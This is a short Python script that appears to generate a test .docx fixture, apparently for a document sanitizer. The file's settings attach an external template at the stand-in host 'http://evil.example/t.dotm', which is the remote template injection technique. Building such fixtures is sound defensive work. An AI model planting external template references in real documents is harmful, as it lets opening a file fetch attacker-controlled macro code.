# SPDX-License-Identifier: GPL-2.0-or-later
from recipes import emit, png
from recipes_ooxml import *


settings = f'<w:settings {W} {R}><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>'
emit(docx(paragraph('KEPT'), [('rId1', 'settings', 'settings.xml')],
          parts={'word/settings.xml': settings,
                 'word/_rels/settings.xml.rels': relationships([('rId1', 'attachedTemplate', 'http://evil.example/t.dotm', 'External')])},
          types={'word/settings.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml'}))
